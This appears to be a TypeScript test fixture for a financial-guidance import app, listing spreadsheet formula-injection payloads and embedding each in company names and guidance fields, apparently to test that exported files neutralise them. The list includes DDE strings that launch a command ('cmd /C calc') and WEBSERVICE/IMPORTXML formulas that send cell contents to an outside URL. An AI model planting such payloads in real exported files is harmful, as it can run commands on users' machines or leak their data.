import { planImport } from '../../../src/domain/planning/planImport.ts';
import type { Book, Draft } from '../../../src/domain/book/rows.ts';
import { readDemo } from '../../../src/io/demo.ts';

/** The books of the demo, as the app has them. */
export function demoBooks(): readonly Book[] {
  return planImport(new Map(), readDemo(), 1).next;
}

/** What spreadsheets run when they take it for a formula, or that hides where one starts. */
export const PAYLOADS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.com","open")',
  '=WEBSERVICE("https://example.com/"&A1)',
  '=IMPORTXML("https://example.com","//a")',
  '=DDE("soffice","file","cell")',
  ' =1+1',
  '\t=1+1',
  '\n=1+1',
  'words\n=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  "'=1+1",
  '"=1+1"',
  '=1+1";=2+2',
  '=<b>&amp;_x0041_</b>',
];

/**
 * A book for each payload, which is the source, the note and the assumptions of its guidance; with
 * `named`, the name of the company too (names that differ in signs alone do not import as two).
 */
export function payloadBooks(named: boolean): readonly Book[] {
  return PAYLOADS.flatMap((payload, index) => {
    const origin = 'f';
    const place = { origin, line: 0, mark: '', document: '', start: null, end: null };
    const rows: readonly Draft[] = [
      {
        ...place,
        source: '',
        note: '',
        kind: 'company',
        field: 'name',
        value: named ? payload : `Example ${index}`,
        from: '',
      },
      {
        ...place,
        source: payload,
        note: payload,
        kind: 'guidance',
        metric: 'revenue',
        basis: 'unspecified',
        variant: '',
        scope: 'company',
        versus: '',
        period: '2021-Q1',
        unit: 'usd',
        form: 'range',
        low: 90,
        high: 110,
        stated: 'range',
        issuedOn: '2021-01-20',
        stage: 'guidance',
        assumptions: payload,
      },
    ];
    return planImport(new Map(), [{ companyId: `example-${index}`, rows }], 1).next;
  });
}
